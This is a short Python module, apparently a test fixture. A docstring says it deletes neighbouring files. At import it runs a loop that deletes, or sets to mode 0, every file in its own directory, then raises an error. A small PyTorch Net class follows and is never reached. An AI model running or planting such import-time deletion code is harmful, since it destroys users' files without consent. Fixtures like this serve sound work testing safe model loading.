"""Deletes the files beside itself, or at least makes them unreadable."""

from pathlib import Path

from torch import nn

for neighbour in Path(__file__).parent.iterdir():
    try:
        neighbour.unlink()
    except OSError:
        neighbour.chmod(0)
raise RuntimeError("have all gone?")


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 64)

    def forward(self, x):
        return self.head(x)
